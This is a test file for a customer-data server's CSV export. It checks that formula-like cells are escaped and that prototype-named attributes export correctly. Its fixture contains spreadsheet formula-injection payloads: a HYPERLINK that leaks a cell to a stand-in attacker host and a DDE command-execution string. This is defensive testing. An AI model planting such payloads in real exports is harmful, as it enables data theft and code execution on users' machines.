import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CsvParser } from '../../packages/server/src/ops/bulk/csv.js';
import { engines } from '../helpers/postgres.js';
import { startServer, type ServerProcess } from '../helpers/server-process.js';
import { jsonLines, roster, storeArgs } from '../ops/helpers.js';
import { basic, call } from './helpers.js';

/**
 * CSV export (docs/security.md "Exports"): attributes named like `Object.prototype` members once
 * crashed it; cells and headers a spreadsheet would run as a formula are guarded.
 */
const FORMULAS = {
  first_name: '=HYPERLINK("http://evil.example/?leak="&B3,"Click")',
  company: "@SUM(1+1)*cmd|' /C calc'!A0",
  '=cmd|x': '+1 sneaky',
  note: "'=already quoted",
  tabbed: '\tstarts with a tab',
  balance: -5,
};

function cells(csv: string): string[][] {
  const parser = new CsvParser();
  return [...parser.push(Buffer.from(csv)), ...parser.end()].map((r) => r.fields);
}

describe.each(engines())('CSV export on %s', (engine) => {
  let server: ServerProcess;
  const dir = mkdtempSync(path.join(tmpdir(), 'roster-csv-'));
  const put = (id: string, body: unknown) =>
    call(server, 'PUT', `/api/v1/customers/${id}`, basic(server.credentials), body);

  beforeAll(async () => {
    server = await startServer({ engine });
    expect((await put('mallory', { email: 'm@x.example', ...FORMULAS })).status).toBe(200);
    // Any app user can name attributes like Object.prototype's members.
    expect(
      (await put('dana', { valueOf: 'x', toString: 'y', constructor: 'z', hasOwnProperty: 1 })).status,
    ).toBe(200);
    expect((await put('plain', { plan: 'pro' })).status).toBe(200);
    const ev = await call(server, 'POST', '/api/v1/customers/mallory/events', basic(server.credentials), {
      name: '=1+2',
      data: { x: 1 },
    });
    expect(ev.status).toBe(200);
  }, 60_000);
  afterAll(async () => {
    await server?.cleanup();
    rmSync(dir, { recursive: true, force: true });
  });

  it('exports people whatever their attribute names', async () => {
    const r = await roster(['export', 'people', '--format', 'csv', ...storeArgs(server)]);
    expect(r.code, r.stderr).toBe(0);
    const rows = cells(r.stdout);
    const header = rows[0]!;
    expect(rows).toHaveLength(4);
    const dana = rows.find((row) => row[0] === 'dana')!;
    const plain = rows.find((row) => row[0] === 'plain')!;
    for (const name of ['valueOf', 'toString', 'constructor', 'hasOwnProperty'])
      expect(header).toContain(name);
    expect(dana[header.indexOf('valueOf')]).toBe('x');
    expect(dana[header.indexOf('hasOwnProperty')]).toBe('1');
    // Someone without the attribute has an empty cell, not Object.prototype's function.
    expect(plain[header.indexOf('valueOf')]).toBe('');
    expect(plain[header.indexOf('constructor')]).toBe('');
  });

  it('guards every cell and header a spreadsheet would run as a formula', async () => {
    const people = await roster(['export', 'people', '--format', 'csv', ...storeArgs(server)]);
    const events = await roster(['export', 'events', '--format', 'csv', ...storeArgs(server)]);
    expect(events.code, events.stderr).toBe(0);
    for (const csv of [people.stdout, events.stdout])
      for (const row of cells(csv))
        for (const cell of row)
          if (!/^-?\d/.test(cell)) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
    const rows = cells(people.stdout);
    const header = rows[0]!;
    const mallory = rows.find((row) => row[0] === 'mallory')!;
    expect(header).toContain("'=cmd|x");
    expect(mallory[header.indexOf('first_name')]).toBe(`'${FORMULAS.first_name}`);
    expect(mallory[header.indexOf('company')]).toBe(`'${FORMULAS.company}`);
    expect(mallory[header.indexOf("'=cmd|x")]).toBe("'+1 sneaky");
    expect(mallory[header.indexOf('note')]).toBe("''=already quoted");
    // Numbers stay numbers.
    expect(mallory[header.indexOf('balance')]).toBe('-5');
    expect(cells(events.stdout)[1]![2]).toBe("'=1+2");
  });

  it('roster import reads the guarded CSV back to the original values', async () => {
    const people = await roster(['export', 'people', '--format', 'csv', ...storeArgs(server)]);
    const file = path.join(dir, 'people.csv');
    writeFileSync(file, people.stdout);
    const copy = path.join(dir, 'copy');
    expect((await roster(['workspace', 'create', '--data', copy])).code).toBe(0);
    const imported = await roster(['import', file, '--data', copy]);
    expect(imported.code, imported.stderr).toBe(0);
    const back = jsonLines((await roster(['export', '--data', copy])).stdout) as Array<{
      identifiers: { id: string };
      attributes: Record<string, unknown>;
    }>;
    const mallory = back.find((p) => p.identifiers.id === 'mallory')!;
    expect(mallory.attributes).toMatchObject(FORMULAS);
  });
});
